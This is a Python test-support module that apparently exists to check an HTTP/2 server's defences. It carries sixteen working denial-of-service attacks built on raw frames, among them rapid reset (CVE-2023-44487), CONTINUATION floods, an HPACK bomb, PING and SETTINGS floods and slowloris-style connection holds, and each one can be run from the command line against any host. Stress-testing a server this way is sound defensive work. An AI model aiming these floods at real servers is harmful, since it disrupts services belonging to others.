"""Hostile clients of an HTTP/2 server, on raw frames.

    python -m tests.support.http2_attacks NAME --host H --port P --ca FILE [--cert FILE --key FILE] [--scale 1.0]

Each attack is `async def attack(target, scale) -> Observation`: it does its harm, as far as the server lets it, and says how that
ended. A server answers with GOAWAY, closes, or goes on, and whether that is good is for a test to say. `scale` 1 is the full size,
tests take less. An attack runs in a process of its own (`run`), or whoever measures beside it measures the attacker's CPU.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable, Coroutine, Mapping, Sequence
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, Final

from tests.support.http2_client import (
    CONNECT_TIMEOUT,
    MESSAGE,
    PUBLISH,
    SUBSCRIBE,
    WINDOW,
    Connection,
    Credentials,
    Flag,
    Frame,
    Setting,
    Target,
    client_tls,
    frame,
    opened,
    request_fields,
    reset,
    settings,
    subscription,
    window_update,
)

ROOT: Final = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Observation:
    """What became of an attack."""

    attack: str
    sent: int
    """Frames, or connections where those are the attack."""
    seconds: float
    goaway: str = ""
    """The error that the server sent in a GOAWAY."""
    closed: int = 0
    """Connections that the server ended."""
    resets: int = 0
    """Streams that the server reset."""
    answers: int = 0
    """Calls that were answered, however."""
    refused: int = 0
    """Connections that did not come about."""
    stalled: bool = False
    """Whether the server stopped reading, which bounds what it keeps as well as an end does."""


async def _flood(
    connection: Connection, name: str, count: int, make: Callable[[int], bytes], *, batch: int = 50, settle: float = 1.0
) -> Observation:
    """Send what `make` makes, until the server says goodbye."""
    began, sent = time.monotonic(), 0
    while sent < count:
        connection.write(b"".join(make(number) for number in range(sent, sent + batch)))
        sent += batch
        if not await connection.flush():
            break
    await connection.settled(settle)
    return _observed(name, sent, began, [connection])


def _observed(name: str, sent: int, began: float, connections: Sequence[Connection]) -> Observation:
    return Observation(
        name,
        sent,
        round(time.monotonic() - began, 3),
        next((one.goaway for one in connections if one.goaway), ""),
        sum(one.closed for one in connections),
        sum(one.resets for one in connections),
        sum(one.answers for one in connections),
        stalled=any(one.stalled for one in connections),
    )


async def rapid_reset(target: Target, scale: float = 1.0) -> Observation:
    """Calls that are taken back in the same breath (CVE-2023-44487): each costs the server a call, and none counts as open."""
    async with opened(target) as connection:

        def make(_: int) -> bytes:
            stream = connection.stream()
            return connection.request(stream, PUBLISH) + reset(stream)

        return await _flood(connection, "rapid_reset", max(2_000, round(20_000 * scale)), make)


async def provoked_reset(target: Target, scale: float = 1.0) -> Observation:
    """Calls that the server itself is made to reset, by an empty window update (CVE-2025-8671)."""
    async with opened(target) as connection:

        def make(_: int) -> bytes:
            stream = connection.stream()
            return connection.request(stream, PUBLISH) + window_update(stream, 0)

        return await _flood(connection, "provoked_reset", max(2_000, round(20_000 * scale)), make)


async def continuation_flood(target: Target, scale: float = 1.0) -> Observation:
    """Headers that never end (CVE-2024-24549 and its kin): 16 KiB a frame, of fields that nobody stores."""
    async with opened(target) as connection:
        start = connection.request(connection.stream(), PUBLISH, flags=Flag.NONE)
        # A literal field that is not indexed, of one name and a long value.
        field = b"\x00\x01x\x7f" + _varint(16_000 - 127) + b"a" * 16_000
        more = frame(Frame.CONTINUATION, 0, 1, field[:16_384])
        return await _flood(
            connection, "continuation_flood", round(10_000 * scale), lambda number: more if number else start, batch=4
        )


async def empty_continuations(target: Target, scale: float = 1.0) -> Observation:
    """CONTINUATION frames of no bytes, which a limit on the size of headers does not see."""
    async with opened(target) as connection:
        start = connection.request(connection.stream(), PUBLISH, flags=Flag.NONE)
        more = frame(Frame.CONTINUATION, 0, 1)
        return await _flood(connection, "empty_continuations", round(100_000 * scale), lambda number: more if number else start)


async def hpack_bomb(target: Target, scale: float = 1.0) -> Observation:
    """A field of 4 KB put into the server's table once, and named thousands of times by a byte each: megabytes from one frame."""
    async with opened(target) as connection:
        value = b"b" * 4_000
        stored = b"\x40\x01x\x7f" + _varint(len(value) - 127) + value
        first = connection.stream()
        head = connection.encoder.encode(request_fields(target, PUBLISH))
        # What the encoder has put into the table stands behind the field; the latest entry is number 62.
        connection.write(frame(Frame.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, first, head + stored))

        def make(_: int) -> bytes:
            return frame(Frame.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, connection.stream(), b"\xbe" * 16_000)

        return await _flood(connection, "hpack_bomb", round(1_000 * scale), make, batch=2)


async def ping_flood(target: Target, scale: float = 1.0) -> Observation:
    """PINGs whose answers are never read."""
    async with _silenced(target) as connection:
        return await _flood(
            connection, "ping_flood", round(200_000 * scale), lambda number: frame(Frame.PING, 0, 0, struct.pack(">Q", number))
        )


async def settings_flood(target: Target, scale: float = 1.0) -> Observation:
    """SETTINGS whose acknowledgements are never read."""
    async with _silenced(target) as connection:
        made = settings({Setting.INITIAL_WINDOW_SIZE: 65_535})
        return await _flood(connection, "settings_flood", round(200_000 * scale), lambda _: made)


async def priority_flood(target: Target, scale: float = 1.0) -> Observation:
    """Priorities of streams that do not exist."""
    async with opened(target) as connection:

        def make(number: int) -> bytes:
            return frame(Frame.PRIORITY, 0, 2 * (number % 500_000) + 1, struct.pack(">IB", 0, 16))

        return await _flood(connection, "priority_flood", round(200_000 * scale), make)


async def empty_data(target: Target, scale: float = 1.0) -> Observation:
    """DATA of no bytes on a call that never ends: no window holds it back."""
    async with opened(target) as connection:
        stream = connection.stream()
        connection.write(connection.request(stream, PUBLISH))
        return await _flood(connection, "empty_data", round(200_000 * scale), lambda _: frame(Frame.DATA, 0, stream))


async def window_overflow(target: Target, scale: float = 1.0) -> Observation:
    """The connection's window opened beyond its limit."""
    async with opened(target) as connection:
        return await _flood(connection, "window_overflow", 2, lambda _: window_update(0, WINDOW), batch=2)


async def closed_windows(target: Target, scale: float = 1.0) -> Observation:
    """Streams whose reader never makes room: with windows of nothing, the server can send heads only."""
    count = max(1, round(200 * scale))
    async with opened(target, {Setting.INITIAL_WINDOW_SIZE: 0}) as connection:
        message = subscription(target)

        def make(_: int) -> bytes:
            stream = connection.stream()
            return connection.request(stream, SUBSCRIBE) + frame(Frame.DATA, Flag.END_STREAM, stream, message)

        return await _flood(connection, "closed_windows", count, make, batch=10, settle=10 * scale)


async def large_strangers(target: Target, scale: float = 1.0) -> Observation:
    """Messages of 4 MiB from somebody without a credential, as far as the windows allow."""
    async with opened(target) as connection:
        length, chunk = b"\0" + struct.pack(">I", 2**22), b"\0" * 16_000

        def make(_: int) -> bytes:
            stream = connection.stream()
            body = frame(Frame.DATA, 0, stream, length) + frame(Frame.DATA, 0, stream, chunk) * 3
            return connection.request(stream, PUBLISH) + body

        return await _flood(connection, "large_strangers", round(1_000 * scale), make, batch=1)


async def trickled_bodies(target: Target, scale: float = 1.0) -> Observation:
    """Calls whose message comes by a byte every tenth of a second."""
    count = max(1, round(200 * scale))
    async with opened(target) as connection:
        streams = [connection.stream() for _ in range(count)]
        connection.write(b"".join(connection.request(stream, PUBLISH) for stream in streams))
        began, sent = time.monotonic(), 0
        while time.monotonic() < began + 10 * scale:
            connection.write(b"".join(frame(Frame.DATA, 0, stream, b"\0") for stream in streams))
            sent += count
            if not await connection.flush():
                break
            await asyncio.sleep(0.1)
        return _observed("trickled_bodies", sent, began, [connection])


async def slow_handshakes(target: Target, scale: float = 1.0) -> Observation:
    """Connections that begin TLS and go no further."""
    # The head of a TLS record that announces a ClientHello, of which one byte comes.
    return await _held("slow_handshakes", target, None, b"\x16\x03\x01\x02\x00\x01", scale)


async def silent_connections(target: Target, scale: float = 1.0) -> Observation:
    """Connections that finish TLS and never say what they speak."""
    return await _held("silent_connections", target, target.tls, b"", scale)


async def _held(name: str, target: Target, tls: ssl.SSLContext | None, beginning: bytes, scale: float) -> Observation:
    """Many connections that say `beginning` and nothing else for half a minute."""
    count, hold = max(1, round(500 * scale)), max(6.0, 30 * scale)
    began, refused = time.monotonic(), 0
    writers, endings = [], []
    for _ in range(count):
        name_sent = target.host if tls else None
        try:
            async with asyncio.timeout(CONNECT_TIMEOUT):
                reader, writer = await asyncio.open_connection(target.host, target.port, ssl=tls, server_hostname=name_sent)
        except (OSError, ssl.SSLError):
            refused += 1
            continue
        writer.write(beginning)
        writers.append(writer)
        endings.append(asyncio.create_task(reader.read()))
    done = (await asyncio.wait(endings, timeout=hold))[0] if endings else set()
    for writer in writers:
        writer.transport.abort()
    await asyncio.gather(*endings, return_exceptions=True)
    return Observation(name, count, round(time.monotonic() - began, 3), closed=len(done), refused=refused)


async def churn(target: Target, scale: float = 1.0) -> Observation:
    """Ten thousand connections, each with a call, one after the other on twenty lanes."""
    count, lanes = max(20, round(10_000 * scale)), 20
    began, refused, answers = time.monotonic(), 0, 0

    async def lane(times: int) -> None:
        nonlocal refused, answers
        for _ in range(times):
            try:
                async with opened(target) as connection:
                    await connection.call(PUBLISH, MESSAGE)
                    answers += 1
            except (OSError, ssl.SSLError, TimeoutError):
                refused += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(lanes):
            group.create_task(lane(count // lanes))
    return Observation("churn", count, round(time.monotonic() - began, 3), answers=answers, refused=refused)


@contextlib.asynccontextmanager
async def _silenced(target: Target) -> AsyncIterator[Connection]:
    """A connection from which nothing is read until the flood is over."""
    async with opened(target, polite=False) as connection:
        await connection.settled(0.2)
        await connection.pause()
        yield connection


def _varint(value: int) -> bytes:
    """The rest of an HPACK integer whose prefix is full."""
    made = bytearray()
    while value >= 128:
        made.append(value % 128 + 128)
        value //= 128
    made.append(value)
    return bytes(made)


ATTACKS: Final[Mapping[str, Callable[[Target, float], Coroutine[Any, Any, Observation]]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        provoked_reset,
        continuation_flood,
        empty_continuations,
        hpack_bomb,
        ping_flood,
        settings_flood,
        priority_flood,
        empty_data,
        window_overflow,
        closed_windows,
        large_strangers,
        trickled_bodies,
        slow_handshakes,
        silent_connections,
        churn,
    )
}


async def run(name: str, host: str, port: int, credentials: Credentials, scale: float, cluster: str = "cluster1") -> Observation:
    """The attack in a process of its own."""
    command = [sys.executable, "-m", "tests.support.http2_attacks", name, "--host", host, "--port", str(port)]
    command += [*credentials.arguments(), "--scale", str(scale), "--cluster", cluster]
    process = await asyncio.create_subprocess_exec(*command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT)
    try:
        out, errors = await process.communicate()
    except asyncio.CancelledError:
        process.kill()
        await process.wait()
        raise
    if process.returncode != 0:
        raise RuntimeError(f"{name}: {errors.decode()[-2000:]}")
    return Observation(**json.loads(out))


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.support.http2_attacks", description="One hostile client.")
    parser.add_argument("attack", choices=list(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", type=Path, required=True)
    parser.add_argument("--cert", type=Path)
    parser.add_argument("--key", type=Path)
    parser.add_argument("--cluster", default="cluster1")
    parser.add_argument("--scale", type=float, default=1.0)
    given = parser.parse_args()
    target = Target(given.host, given.port, client_tls(given.ca, given.cert, given.key), cluster=given.cluster)
    print(json.dumps(asdict(asyncio.run(ATTACKS[given.attack](target, given.scale)))))


if __name__ == "__main__":
    main()
